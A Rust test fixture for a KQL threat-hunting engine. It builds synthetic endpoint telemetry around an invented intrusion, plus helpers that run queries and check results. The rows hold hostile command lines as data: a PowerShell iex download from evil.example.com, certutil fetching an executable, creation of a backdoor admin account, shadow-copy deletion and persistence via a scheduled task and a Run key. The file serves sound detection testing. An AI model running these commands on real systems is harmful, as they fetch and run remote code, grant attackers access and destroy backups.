//! The fixed dataset the hunting tests run against, and helpers to run queries and read
//! results as text.
//!
//! The story: on 2024-03-06, bob on ws-02 opens a macro document that starts PowerShell,
//! which downloads a script and a DLL and plants a scheduled task and a Run key; alice on
//! ws-01 runs certutil to fetch a tool that Defender flags; on srv-01 someone guesses
//! passwords, svc_backup adds an admin account, deletes shadow copies and files get
//! `.locked`. A few rows from the day before and a few benign ones give filters something
//! to drop. Every expected result in the tests is worked out by hand from these rows.

use datafusion::arrow::array::{Array, AsArray};
use datafusion::arrow::datatypes::{
    DataType, Float64Type, Int32Type, Int64Type, TimestampNanosecondType,
};
use datafusion::common::TableReference;
use datafusion::datasource::MemTable;
use datafusion::prelude::SessionContext;
use rampart_kql::ast::ScalarType;
use rampart_kql::{HuntError, HuntResult, Limits, QueryParameters};
use rampart_telemetry::{TableBatchBuilder, arrow_schema};
use std::sync::Arc;

/// `now()` in every test query: midnight after the day of the story.
pub const NOW: &str = "2024-03-07T00:00:00Z";

const PROCESS: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T10:07:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ProcessCreated","FileName":"cmd.exe","FolderPath":"C:\\Windows\\System32\\cmd.exe","ProcessId":100,"ProcessCommandLine":"cmd /c whoami","AccountName":"alice","AccountDomain":"CONTOSO","InitiatingProcessFileName":"explorer.exe","InitiatingProcessId":50,"FileSize":289792,"ReportId":1,"SHA256":"c0ffee01"}"#,
    r#"{"Timestamp":"2024-03-06T10:59:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ProcessCreated","FileName":"powershell.exe","FolderPath":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessId":101,"ProcessCommandLine":"powershell.exe -EncodedCommand SQBFAFgA","AccountName":"alice","AccountDomain":"CONTOSO","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":100,"FileSize":448000,"ReportId":2,"SHA256":"beef0002"}"#,
    r#"{"Timestamp":"2024-03-06T11:00:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ProcessCreated","FileName":"powershell.exe","FolderPath":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessId":200,"ProcessCommandLine":"powershell -NoP -W Hidden -c iex (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')","AccountName":"bob","AccountDomain":"CONTOSO","InitiatingProcessFileName":"winword.exe","InitiatingProcessId":150,"FileSize":448000,"ReportId":3,"SHA256":"beef0002","AdditionalFields":"{\"ParentProcess\":\"winword.exe\",\"Signed\":false,\"Tags\":[\"macro\",\"download\"]}"}"#,
    r#"{"Timestamp":"2024-03-06T11:30:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ProcessCreated","FileName":"rundll32.exe","FolderPath":"C:\\Windows\\System32\\rundll32.exe","ProcessId":201,"ProcessCommandLine":"rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,DllMain","AccountName":"bob","AccountDomain":"CONTOSO","InitiatingProcessFileName":"powershell.exe","InitiatingProcessId":200,"FileSize":71680,"ReportId":4,"SHA256":"d11d0004","AdditionalFields":"{\"Signed\":true,\"Tags\":[\"dll\"]}"}"#,
    r#"{"Timestamp":"2024-03-06T12:00:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"ProcessCreated","FileName":"net.exe","FolderPath":"C:\\Windows\\System32\\net.exe","ProcessId":300,"ProcessCommandLine":"net user admin P@ssw0rd /add","AccountName":"svc_backup","AccountDomain":"CONTOSO","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":299,"FileSize":58880,"ReportId":5,"SHA256":"0e7e0005"}"#,
    r#"{"Timestamp":"2024-03-06T12:05:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"ProcessCreated","FileName":"net.exe","FolderPath":"C:\\Windows\\System32\\net.exe","ProcessId":301,"ProcessCommandLine":"net localgroup administrators admin /add","AccountName":"svc_backup","AccountDomain":"CONTOSO","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":299,"FileSize":58880,"ReportId":6,"SHA256":"0e7e0005"}"#,
    r#"{"Timestamp":"2024-03-06T13:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ProcessCreated","FileName":"certutil.exe","FolderPath":"C:\\Windows\\System32\\certutil.exe","ProcessId":102,"ProcessCommandLine":"certutil -urlcache -split -f http://198.51.100.7/p.exe p.exe","AccountName":"alice","AccountDomain":"CONTOSO","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":100,"FileSize":1310720,"ReportId":7,"SHA256":"ce470007"}"#,
    r#"{"Timestamp":"2024-03-06T14:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ProcessCreated","FileName":"whoami.exe","FolderPath":"C:\\Windows\\System32\\whoami.exe","ProcessId":103,"ProcessCommandLine":"whoami /all","AccountName":"alice","AccountDomain":"CONTOSO","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":100,"FileSize":77824,"ReportId":8,"SHA256":"a11a0008"}"#,
    r#"{"Timestamp":"2024-03-06T15:00:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"ProcessCreated","FileName":"vssadmin.exe","FolderPath":"C:\\Windows\\System32\\vssadmin.exe","ProcessId":302,"ProcessCommandLine":"vssadmin delete shadows /all /quiet","AccountName":"SYSTEM","AccountDomain":"NT AUTHORITY","InitiatingProcessFileName":"cmd.exe","InitiatingProcessId":299,"FileSize":126976,"ReportId":9,"SHA256":"5ad00009","AdditionalFields":"{\"Count\":3}"}"#,
    r#"{"Timestamp":"2024-03-05T09:00:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ProcessCreated","FileName":"notepad.exe","FolderPath":"C:\\Windows\\notepad.exe","ProcessId":210,"ProcessCommandLine":"notepad.exe C:\\Users\\bob\\notes.txt","AccountName":"bob","InitiatingProcessFileName":"explorer.exe","InitiatingProcessId":20,"FileSize":201216,"ReportId":10,"SHA256":"n0te0010"}"#,
    r#"{"Timestamp":"2024-03-06T16:00:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ProcessCreated","FileName":"schtasks.exe","FolderPath":"C:\\Windows\\System32\\schtasks.exe","ProcessId":202,"ProcessCommandLine":"schtasks /create /tn Updater /tr C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe /sc minute","AccountName":"bob","AccountDomain":"CONTOSO","InitiatingProcessFileName":"powershell.exe","InitiatingProcessId":200,"FileSize":227840,"ReportId":11,"SHA256":"5c7a0011"}"#,
    r#"{"Timestamp":"2024-03-06T17:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ProcessCreated","FileName":"CMD.EXE","FolderPath":"C:\\Windows\\System32\\CMD.EXE","ProcessId":104,"ProcessCommandLine":"CMD.EXE /c echo hi","AccountName":"alice","AccountDomain":"CONTOSO","InitiatingProcessFileName":"explorer.exe","InitiatingProcessId":50,"ReportId":12,"SHA256":"c0ffee01"}"#,
];

const NETWORK: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T10:10:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ConnectionSuccess","RemoteIP":"10.0.0.5","RemotePort":445,"RemoteUrl":"","LocalIP":"10.0.0.11","LocalPort":50001,"Protocol":"Tcp","InitiatingProcessFileName":"svchost.exe","InitiatingProcessId":900}"#,
    r#"{"Timestamp":"2024-03-06T11:01:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ConnectionSuccess","RemoteIP":"203.0.113.10","RemotePort":80,"RemoteUrl":"evil.example.com","LocalIP":"10.0.0.12","LocalPort":50100,"Protocol":"Tcp","InitiatingProcessFileName":"powershell.exe","InitiatingProcessId":200}"#,
    r#"{"Timestamp":"2024-03-06T11:02:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ConnectionSuccess","RemoteIP":"203.0.113.10","RemotePort":443,"RemoteUrl":"evil.example.com","LocalIP":"10.0.0.12","LocalPort":50101,"Protocol":"Tcp","InitiatingProcessFileName":"powershell.exe","InitiatingProcessId":200}"#,
    r#"{"Timestamp":"2024-03-06T13:00:30Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ConnectionSuccess","RemoteIP":"198.51.100.7","RemotePort":80,"RemoteUrl":"","LocalIP":"10.0.0.11","LocalPort":50200,"Protocol":"Tcp","InitiatingProcessFileName":"certutil.exe","InitiatingProcessId":102}"#,
    r#"{"Timestamp":"2024-03-06T13:05:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ConnectionFailed","RemoteIP":"198.51.100.7","RemotePort":8080,"RemoteUrl":"","LocalIP":"10.0.0.11","LocalPort":50201,"Protocol":"Tcp","InitiatingProcessFileName":"certutil.exe","InitiatingProcessId":102}"#,
    r#"{"Timestamp":"2024-03-06T12:00:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"InboundConnectionAccepted","RemoteIP":"10.0.0.12","RemotePort":50500,"RemoteUrl":"","LocalIP":"10.0.0.20","LocalPort":3389,"Protocol":"Tcp","InitiatingProcessFileName":"svchost.exe","InitiatingProcessId":800}"#,
    r#"{"Timestamp":"2024-03-06T09:00:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"ConnectionSuccess","RemoteIP":"172.16.5.4","RemotePort":53,"RemoteUrl":"","LocalIP":"10.0.0.20","LocalPort":53000,"Protocol":"Udp","InitiatingProcessFileName":"dns.exe","InitiatingProcessId":700}"#,
    r#"{"Timestamp":"2024-03-06T09:30:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ConnectionSuccess","RemoteIP":"192.168.1.1","RemotePort":443,"RemoteUrl":"login.microsoftonline.com","LocalIP":"192.168.1.50","LocalPort":50300,"Protocol":"Tcp","InitiatingProcessFileName":"msedge.exe","InitiatingProcessId":400}"#,
    r#"{"Timestamp":"2024-03-06T16:30:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ConnectionSuccess","RemoteIP":"8.8.8.8","RemotePort":53,"RemoteUrl":"","LocalIP":"10.0.0.12","LocalPort":50400,"Protocol":"Udp","InitiatingProcessFileName":"svchost.exe","InitiatingProcessId":900}"#,
    r#"{"Timestamp":"2024-03-06T16:45:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"ConnectionSuccess","RemoteIP":"2001:db8::1","RemotePort":443,"RemoteUrl":"ipv6.example.net","LocalIP":"fe80::1","LocalPort":50500,"Protocol":"Tcp","InitiatingProcessFileName":"msedge.exe","InitiatingProcessId":401}"#,
];

const LOGON: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T08:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"LogonSuccess","LogonType":"Interactive","AccountDomain":"CONTOSO","AccountName":"alice","IsLocalAdmin":false,"Protocol":"Kerberos"}"#,
    r#"{"Timestamp":"2024-03-06T08:30:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"LogonSuccess","LogonType":"Interactive","AccountDomain":"CONTOSO","AccountName":"bob","IsLocalAdmin":true,"Protocol":"Kerberos"}"#,
    r#"{"Timestamp":"2024-03-06T11:50:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"LogonFailed","LogonType":"Network","AccountDomain":"CONTOSO","AccountName":"admin","FailureReason":"InvalidUserNameOrPassword","RemoteIP":"10.0.0.12","RemoteIPType":"Private","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-06T11:51:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"LogonFailed","LogonType":"Network","AccountDomain":"CONTOSO","AccountName":"admin","FailureReason":"InvalidUserNameOrPassword","RemoteIP":"10.0.0.12","RemoteIPType":"Private","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-06T11:52:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"LogonFailed","LogonType":"Network","AccountDomain":"CONTOSO","AccountName":"administrator","FailureReason":"InvalidUserNameOrPassword","RemoteIP":"10.0.0.12","RemoteIPType":"Private","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-06T11:53:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"LogonSuccess","LogonType":"Network","AccountDomain":"CONTOSO","AccountName":"svc_backup","IsLocalAdmin":true,"RemoteIP":"10.0.0.12","RemoteIPType":"Private","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-06T12:10:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"LogonSuccess","LogonType":"RemoteInteractive","AccountDomain":"CONTOSO","AccountName":"svc_backup","IsLocalAdmin":true,"RemoteIP":"10.0.0.12","RemoteIPType":"Private","Protocol":"Negotiate"}"#,
    r#"{"Timestamp":"2024-03-06T14:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"LogonFailed","LogonType":"RemoteInteractive","AccountName":"guest","FailureReason":"AccountDisabled","IsLocalAdmin":false,"RemoteIP":"198.51.100.7","RemoteIPType":"Public","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-06T14:01:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"LogonFailed","LogonType":"RemoteInteractive","AccountName":"guest","FailureReason":"AccountDisabled","IsLocalAdmin":false,"RemoteIP":"198.51.100.7","RemoteIPType":"Public","Protocol":"NTLM"}"#,
    r#"{"Timestamp":"2024-03-05T20:00:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"LogonSuccess","LogonType":"Interactive","AccountDomain":"CONTOSO","AccountName":"bob","IsLocalAdmin":true,"Protocol":"Kerberos"}"#,
];

const FILE: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T11:31:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"FileCreated","FileName":"x.dll","FolderPath":"C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll","SHA256":"aa11","FileSize":71680,"InitiatingProcessFileName":"powershell.exe","FileOriginUrl":"http://evil.example.com/x.dll"}"#,
    r#"{"Timestamp":"2024-03-06T13:01:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"FileCreated","FileName":"p.exe","FolderPath":"C:\\Users\\alice\\p.exe","SHA256":"bb22","FileSize":1310720,"InitiatingProcessFileName":"certutil.exe","FileOriginUrl":"http://198.51.100.7/p.exe"}"#,
    r#"{"Timestamp":"2024-03-06T16:01:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"FileCreated","FileName":"u.exe","FolderPath":"C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe","SHA256":"cc33","FileSize":5120,"InitiatingProcessFileName":"powershell.exe"}"#,
    r#"{"Timestamp":"2024-03-06T15:01:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"FileModified","FileName":"report.docx.locked","FolderPath":"C:\\Shares\\Finance\\report.docx.locked","SHA256":"dd44","FileSize":20480,"InitiatingProcessFileName":"svchost.exe"}"#,
    r#"{"Timestamp":"2024-03-06T15:02:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"FileModified","FileName":"budget.xlsx.locked","FolderPath":"C:\\Shares\\Finance\\budget.xlsx.locked","SHA256":"ee55","FileSize":40960,"InitiatingProcessFileName":"svchost.exe"}"#,
    r#"{"Timestamp":"2024-03-06T15:03:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"FileDeleted","FileName":"budget.xlsx","FolderPath":"C:\\Shares\\Finance\\budget.xlsx","InitiatingProcessFileName":"svchost.exe"}"#,
    r#"{"Timestamp":"2024-03-06T10:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"FileRenamed","FileName":"notes.txt","FolderPath":"C:\\Users\\alice\\Documents\\notes.txt","SHA256":"ff66","FileSize":1024,"InitiatingProcessFileName":"explorer.exe"}"#,
    r#"{"Timestamp":"2024-03-06T09:00:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"FileCreated","FileName":"readme.md","FolderPath":"C:\\Users\\bob\\readme.md","FileSize":512,"InitiatingProcessFileName":"notepad.exe"}"#,
];

const REGISTRY: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T16:02:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"RegistryValueSet","RegistryKey":"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run","RegistryValueName":"Updater","RegistryValueData":"C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe","InitiatingProcessFileName":"powershell.exe"}"#,
    r#"{"Timestamp":"2024-03-06T10:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"RegistryValueSet","RegistryKey":"HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender","RegistryValueName":"DisableAntiSpyware","RegistryValueData":"1","InitiatingProcessFileName":"reg.exe"}"#,
    r#"{"Timestamp":"2024-03-06T12:30:00Z","DeviceId":"d3","DeviceName":"srv-01","ActionType":"RegistryKeyCreated","RegistryKey":"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc","InitiatingProcessFileName":"services.exe"}"#,
    r#"{"Timestamp":"2024-03-06T09:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"RegistryValueSet","RegistryKey":"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run","RegistryValueName":"OneDrive","RegistryValueData":"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe","InitiatingProcessFileName":"explorer.exe"}"#,
];

const INFO: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T00:00:00Z","DeviceId":"d1","DeviceName":"ws-01","OSPlatform":"Windows11","OSBuild":22631,"PublicIP":"203.0.113.50","IsAzureADJoined":true,"MachineGroup":"Workstations","DeviceType":"Workstation","LoggedOnUsers":"[{\"UserName\":\"alice\",\"DomainName\":\"CONTOSO\",\"Sid\":\"S-1-5-21-1-1001\"}]"}"#,
    r#"{"Timestamp":"2024-03-06T00:00:00Z","DeviceId":"d2","DeviceName":"ws-02","OSPlatform":"Windows10","OSBuild":19045,"PublicIP":"203.0.113.51","IsAzureADJoined":true,"MachineGroup":"Workstations","DeviceType":"Workstation","LoggedOnUsers":"[{\"UserName\":\"bob\",\"DomainName\":\"CONTOSO\",\"Sid\":\"S-1-5-21-1-1002\"},{\"UserName\":\"alice\",\"DomainName\":\"CONTOSO\",\"Sid\":\"S-1-5-21-1-1001\"}]"}"#,
    r#"{"Timestamp":"2024-03-06T00:00:00Z","DeviceId":"d3","DeviceName":"srv-01","OSPlatform":"WindowsServer2022","OSBuild":20348,"PublicIP":"","IsAzureADJoined":false,"MachineGroup":"Servers","DeviceType":"Server","LoggedOnUsers":"[]"}"#,
];

const EVENTS: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T11:00:05Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"AntivirusDetection","FileName":"a.ps1","InitiatingProcessFileName":"powershell.exe","AdditionalFields":"{\"ThreatName\":\"Trojan:PowerShell/Downloader\",\"WasRemediated\":true}"}"#,
    r#"{"Timestamp":"2024-03-06T13:02:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"AntivirusDetection","FileName":"p.exe","InitiatingProcessFileName":"certutil.exe","AdditionalFields":"{\"ThreatName\":\"HackTool:Win32/Mimikatz\",\"WasRemediated\":false}"}"#,
    r#"{"Timestamp":"2024-03-06T16:03:00Z","DeviceId":"d2","DeviceName":"ws-02","ActionType":"ScheduledTaskCreated","InitiatingProcessFileName":"schtasks.exe","AdditionalFields":"{\"TaskName\":\"\\\\Updater\",\"Author\":\"CONTOSO\\\\bob\"}"}"#,
    r#"{"Timestamp":"2024-03-06T10:00:00Z","DeviceId":"d1","DeviceName":"ws-01","ActionType":"PowerShellCommand","InitiatingProcessFileName":"powershell.exe","AdditionalFields":"{\"Command\":\"Get-Process\"}"}"#,
];

const ALERT_INFO: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T11:05:00Z","AlertId":"da1","Title":"Suspicious PowerShell download","Category":"Execution","Severity":"High","ServiceSource":"Microsoft Defender for Endpoint","DetectionSource":"EDR"}"#,
    r#"{"Timestamp":"2024-03-06T13:10:00Z","AlertId":"da2","Title":"Mimikatz detected","Category":"CredentialAccess","Severity":"High","ServiceSource":"Microsoft Defender for Endpoint","DetectionSource":"Antivirus"}"#,
    r#"{"Timestamp":"2024-03-06T15:10:00Z","AlertId":"da3","Title":"Shadow copy deletion","Category":"Impact","Severity":"Medium","ServiceSource":"Microsoft Defender for Endpoint","DetectionSource":"EDR"}"#,
];

const ALERT_EVIDENCE: &[&str] = &[
    r#"{"Timestamp":"2024-03-06T11:05:00Z","AlertId":"da1","Title":"Suspicious PowerShell download","EntityType":"Process","EvidenceRole":"Impacted","DeviceId":"d2","DeviceName":"ws-02","FileName":"powershell.exe"}"#,
    r#"{"Timestamp":"2024-03-06T13:10:00Z","AlertId":"da2","Title":"Mimikatz detected","EntityType":"File","EvidenceRole":"Impacted","DeviceId":"d1","DeviceName":"ws-01","FileName":"p.exe","SHA256":"bb22"}"#,
    r#"{"Timestamp":"2024-03-06T13:10:00Z","AlertId":"da2","Title":"Mimikatz detected","EntityType":"Process","EvidenceRole":"Related","DeviceId":"d1","DeviceName":"ws-01","FileName":"certutil.exe"}"#,
];

/// Every table of the advanced-hunting schema, with these rows (the others empty).
pub fn context() -> SessionContext {
    let ctx = SessionContext::new();
    let data: &[(&str, &[&str])] = &[
        ("DeviceProcessEvents", PROCESS),
        ("DeviceNetworkEvents", NETWORK),
        ("DeviceLogonEvents", LOGON),
        ("DeviceFileEvents", FILE),
        ("DeviceRegistryEvents", REGISTRY),
        ("DeviceInfo", INFO),
        ("DeviceEvents", EVENTS),
        ("AlertInfo", ALERT_INFO),
        ("AlertEvidence", ALERT_EVIDENCE),
    ];
    for table in rampart_core::schema::ALL {
        let rows = data
            .iter()
            .find(|(name, _)| *name == table.name)
            .map_or(&[][..], |(_, rows)| *rows);
        let mut builder = TableBatchBuilder::new(table);
        for row in rows {
            let value: serde_json::Value = serde_json::from_str(row).expect("test row is JSON");
            let object = value.as_object().expect("test row is an object");
            builder
                .push_json(object)
                .unwrap_or_else(|e| panic!("bad test row for {}: {e}", table.name));
        }
        let batch = builder.finish();
        let provider = MemTable::try_new(arrow_schema(table), vec![vec![batch]]).expect("memtable");
        ctx.register_table(TableReference::bare(table.name), Arc::new(provider))
            .expect("register table");
    }
    ctx
}

/// Runs `query` (with `now()` at [`NOW`]) or fails the test with the error.
pub async fn hunt(query: &str) -> HuntResult {
    match try_hunt(query, &Limits::default()).await {
        Ok(result) => result,
        Err(error) => panic!("query failed: {error}\n{query}"),
    }
}

pub async fn try_hunt(query: &str, limits: &Limits) -> Result<HuntResult, HuntError> {
    let text = format!("set query_now = datetime({NOW});\n{query}");
    rampart_kql::run(&context(), &text, &QueryParameters::new(), limits).await
}

fn civil(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// `2024-03-06T10:07:00Z`, fractional digits only when non-zero.
fn datetime_text(nanos: i64) -> String {
    let day = 86_400_000_000_000i64;
    let (y, m, d) = civil(nanos.div_euclid(day));
    let rest = nanos.rem_euclid(day);
    let (h, mi, s, f) = (
        rest / 3_600_000_000_000,
        rest / 60_000_000_000 % 60,
        rest / 1_000_000_000 % 60,
        rest % 1_000_000_000,
    );
    let fraction = if f == 0 {
        String::new()
    } else {
        format!(".{}", format!("{f:09}").trim_end_matches('0'))
    };
    format!("{y:04}-{m:02}-{d:02}T{h:02}:{mi:02}:{s:02}{fraction}Z")
}

/// `[-][d.]hh:mm:ss[.fffffff]`
fn timespan_text(nanos: i64) -> String {
    let sign = if nanos < 0 { "-" } else { "" };
    let n = nanos.unsigned_abs();
    let day = 86_400_000_000_000u64;
    let (days, rest) = (n / day, n % day);
    let prefix = if days > 0 {
        format!("{days}.")
    } else {
        String::new()
    };
    let (h, m, s, f) = (
        rest / 3_600_000_000_000,
        rest / 60_000_000_000 % 60,
        rest / 1_000_000_000 % 60,
        rest % 1_000_000_000,
    );
    let fraction = if f == 0 {
        String::new()
    } else {
        format!(".{:07}", f / 100)
    };
    format!("{sign}{prefix}{h:02}:{m:02}:{s:02}{fraction}")
}

/// A cell as text: `null` for null, KQL's text forms otherwise.
fn cell(array: &dyn Array, row: usize, ty: ScalarType) -> String {
    if array.is_null(row) {
        return "null".to_string();
    }
    match (array.data_type(), ty) {
        (DataType::Boolean, _) => array.as_boolean().value(row).to_string(),
        (DataType::Int32, _) => array.as_primitive::<Int32Type>().value(row).to_string(),
        (DataType::Int64, ScalarType::Timespan) => {
            timespan_text(array.as_primitive::<Int64Type>().value(row))
        }
        (DataType::Int64, _) => array.as_primitive::<Int64Type>().value(row).to_string(),
        (DataType::Float64, _) => array.as_primitive::<Float64Type>().value(row).to_string(),
        (DataType::Utf8, _) => array.as_string::<i32>().value(row).to_string(),
        (DataType::Timestamp(..), _) => {
            datetime_text(array.as_primitive::<TimestampNanosecondType>().value(row))
        }
        (other, _) => panic!("unexpected result type {other}"),
    }
}

/// `name:type` of each result column.
pub fn header(result: &HuntResult) -> Vec<String> {
    result
        .columns
        .iter()
        .map(|c| format!("{}:{}", c.name, c.ty))
        .collect()
}

/// Every row, each cell as text.
pub fn rows(result: &HuntResult) -> Vec<Vec<String>> {
    let mut out = Vec::new();
    for batch in &result.batches {
        for row in 0..batch.num_rows() {
            out.push(
                batch
                    .columns()
                    .iter()
                    .zip(&result.columns)
                    .map(|(array, column)| cell(array.as_ref(), row, column.ty))
                    .collect(),
            );
        }
    }
    out
}

fn owned(expected: &[&[&str]]) -> Vec<Vec<String>> {
    expected
        .iter()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect()
}

/// The query's columns and its rows in order.
pub async fn check_ordered(query: &str, columns: &[&str], expected: &[&[&str]]) {
    let result = hunt(query).await;
    assert_eq!(header(&result), columns, "columns of\n{query}");
    assert_eq!(rows(&result), owned(expected), "rows of\n{query}");
}

/// The query's columns and its rows in any order (KQL leaves the order unspecified).
pub async fn check(query: &str, columns: &[&str], expected: &[&[&str]]) {
    let result = hunt(query).await;
    assert_eq!(header(&result), columns, "columns of\n{query}");
    let mut actual = rows(&result);
    let mut wanted = owned(expected);
    actual.sort();
    wanted.sort();
    assert_eq!(actual, wanted, "rows of\n{query}");
}

/// The single value of a one-row, one-column result.
pub async fn scalar(query: &str) -> String {
    let result = hunt(query).await;
    let all = rows(&result);
    assert_eq!(all.len(), 1, "one row expected from\n{query}\ngot {all:?}");
    assert_eq!(all[0].len(), 1, "one column expected from\n{query}");
    all[0][0].clone()
}
